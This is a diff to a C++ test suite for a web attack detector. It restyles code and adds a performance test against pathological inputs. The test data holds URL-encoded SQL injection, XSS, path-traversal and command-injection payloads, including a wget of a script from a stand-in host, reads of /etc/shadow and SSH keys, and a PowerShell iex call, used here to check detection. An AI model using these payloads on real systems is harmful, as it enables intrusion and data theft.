@@ -2,6 +2,7 @@
 // and hard benign traffic (false positives) per attack class.
 #include <gtest/gtest.h>
 
+#include <chrono>
 #include <string>
 #include <utility>
 #include <vector>
@@ -27,11 +28,11 @@ protected:
   }
   static void TearDownTestSuite() { engine_.reset(); }
 
-  static Verdict inspect(const Req &r) {
+  static Verdict inspect(const Req& r) {
     std::vector<Header> hs;
     hs.push_back({"Host", "app.example.com"});
     hs.push_back({"User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101"});
-    for (const auto &[n, v] : r.headers) {
+    for (const auto& [n, v] : r.headers) {
       hs.push_back({n, v});
     }
     RequestView v;
@@ -56,29 +57,29 @@ protected:
     return Req{"GET", "/", {{std::move(name), std::move(value)}}, ""};
   }
 
-  static ::testing::AssertionResult detects(const Req &r, AttackClass cls) {
+  static ::testing::AssertionResult detects(const Req& r, AttackClass cls) {
     const Verdict v = inspect(r);
-    for (const auto &f : v.findings) {
+    for (const auto& f : v.findings) {
       if (f.cls == cls) {
         return ::testing::AssertionSuccess();
       }
     }
     auto res = ::testing::AssertionFailure() << r.method << " " << r.target << " " << r.body
                                              << ": no " << className(cls) << " finding";
-    for (const auto &f : v.findings) {
+    for (const auto& f : v.findings) {
       res << " [" << className(f.cls) << " " << f.ruleId << " " << f.part << "]";
     }
     return res;
   }
 
-  static ::testing::AssertionResult clean(const Req &r) {
+  static ::testing::AssertionResult clean(const Req& r) {
     const Verdict v = inspect(r);
     if (!v.attack()) {
       return ::testing::AssertionSuccess();
     }
     auto res = ::testing::AssertionFailure()
                << r.method << " " << r.target << " " << r.body << ": flagged";
-    for (const auto &f : v.findings) {
+    for (const auto& f : v.findings) {
       res << " [" << className(f.cls) << " " << f.ruleId << " " << f.part << " = " << f.value
           << "]";
     }
@@ -96,7 +97,7 @@ TEST_F(DetectorsTest, ClassNames) {
 }
 
 TEST_F(DetectorsTest, SqliTruePositives) {
-  for (const char *q :
+  for (const char* q :
        {"x%27%20OR%20%27z%27%3D%27z", "7%20or%202%3E1--", "9%27%29%20or%20(1=1)%23",
         "5%20UNION%20ALL%20SELECT%20username,password%20FROM%20accounts",
         "abc%22;DROP%20TABLE%20orders;--", "1%20AND%20SLEEP(3)",
@@ -112,7 +113,7 @@ TEST_F(DetectorsTest, SqliTruePositives) {
 }
 
 TEST_F(DetectorsTest, SqliFalsePositives) {
-  for (const char *q :
+  for (const char* q :
        {"Dunkin%27+Donuts", "select+a+gift+for+mom", "union+square+park+hotels",
         "drop+off+point+near+me", "1+or+2+bedrooms", "rock+%27n%27+roll", "where+is+my+order%3F",
         "it%27s+5%27o+clock", "update+on+delivery", "order+by+date", "cats+and+dogs",
@@ -125,7 +126,7 @@ TEST_F(DetectorsTest, SqliFalsePositives) {
 }
 
 TEST_F(DetectorsTest, XssTruePositives) {
-  for (const char *q :
+  for (const char* q :
        {"%3Cscript%3Efetch(%27//e.test%27)%3C/script%3E", "%3Cimg%20src=x%20onerror=alert(7)%3E",
         "%3Csvg/onload=confirm%601%60%3E", "javascript:alert(document.domain)",
         "%22%3E%3Ciframe%20src=//e.test%3E", "%26lt;script%26gt;x()%26lt;/script%26gt;",
@@ -139,7 +140,7 @@ TEST_F(DetectorsTest, XssTruePositives) {
 }
 
 TEST_F(DetectorsTest, XssFalsePositives) {
-  for (const char *q : {"3+%3C+5+and+7+%3E+2", "I+%3C3+cats", "a%3Cb+%26%26+b%3Cc",
+  for (const char* q : {"3+%3C+5+and+7+%3E+2", "I+%3C3+cats", "a%3Cb+%26%26+b%3Cc",
                         "%3Cb%3Ebold%3C/b%3E", "JavaScript:+The+Good+Parts",
                         "online+onboarding+on+monday", "%3CSearchBox/%3E+component"}) {
     EXPECT_TRUE(clean(query(q))) << q;
@@ -153,7 +154,7 @@ TEST_F(DetectorsTest, PathTraversalTruePositives) {
       detects(Req{"GET", "/static/..%2f..%2f..%2fetc/shadow", {}, ""}, AttackClass::PathTraversal));
   EXPECT_TRUE(detects(Req{"GET", "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/win.ini", {}, ""},
                       AttackClass::PathTraversal));
-  for (const char *q :
+  for (const char* q :
        {"..%5C..%5C..%5Cwindows%5Csystem32%5Cconfig%5Csam", "%252e%252e%252fetc%252fhosts",
         "/proc/self/environ", "....//....//etc/group", "%2e%2e/%2e%2e/home/u/.ssh/id_rsa",
         "..%u2215..%u2215boot.ini", "file:///etc/issue"}) {
@@ -170,7 +171,7 @@ TEST_F(DetectorsTest, PathTraversalFalsePositives) {
 }
 
 TEST_F(DetectorsTest, RceTruePositives) {
-  for (const char *q :
+  for (const char* q :
        {"8.8.8.8%3Bcat%20/etc/hosts", "x%7C%7Cwhoami", "%60id%60", "a%24(uname%20-a)",
         "127.0.0.1%26%26ping%20-c%203%20evil.test", "%3Bc%27a%27t%24%7BIFS%7D/etc/group",
         "x%0Awget%20http://e.test/s.sh", "%7C%20powershell%20-nop%20-c%20iex",
@@ -180,7 +181,7 @@ TEST_F(DetectorsTest, RceTruePositives) {
 }
 
 TEST_F(DetectorsTest, RceFalsePositives) {
-  for (const char *q :
+  for (const char* q :
        {"salt%3B+pepper%3B+cat+food", "ping+pong+table", "Tom+%26+Jerry+-+the+movie", "cat+videos",
         "fish+%7C+chips", "sleep+better+tips", "R%26D+budget", "find+my+phone"}) {
     EXPECT_TRUE(clean(query(q))) << q;
@@ -274,7 +275,8 @@ TEST_F(DetectorsTest, CrlfInPathAndNames) {
 }
 
 TEST_F(DetectorsTest, EncodingEvasions) {
-  EXPECT_TRUE(detects(query("%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-"), AttackClass::Xss));
+  EXPECT_TRUE(
+      detects(query("%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-"), AttackClass::Xss));
   EXPECT_TRUE(detects(query("http://%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0/"),
                       AttackClass::Ssrf));
   EXPECT_TRUE(detects(query("0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd"), AttackClass::PathTraversal));
@@ -350,6 +352,24 @@ TEST_F(DetectorsTest, Limits) {
   const Verdict v2 = (*e2)->inspect(r);
   EXPECT_TRUE(v2.limitExceeded);
   EXPECT_FALSE(v2.attack());
+}
+
+// Hostile shapes must not make inspection super-linear: 128 KiB bodies of repeated fragments.
+TEST_F(DetectorsTest, PathologicalInputsStayFast) {
+  for (const char* unit : {"on=", "<a ", "${", "'", "%25", "((((", "/*", "<svg onload", "\\u00",
+                           "&#", "a)(", "$(", ";cat ", "../", "union select ", "{{"}) {
+    std::string body;
+    while (body.size() < 128 * 1024) {
+      body += unit;
+    }
+    const auto start = std::chrono::steady_clock::now();
+    inspect(Req{"POST", "/", {{"Content-Type", "text/plain"}}, body});
+    inspect(json("{\"a\":\"" + body.substr(0, 60000) + "\"}"));
+    const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(
+                        std::chrono::steady_clock::now() - start)
+                        .count();
+    EXPECT_LT(ms, 1500) << "unit " << unit;
+  }
 }
 
 TEST_F(DetectorsTest, StopAtFirst) {
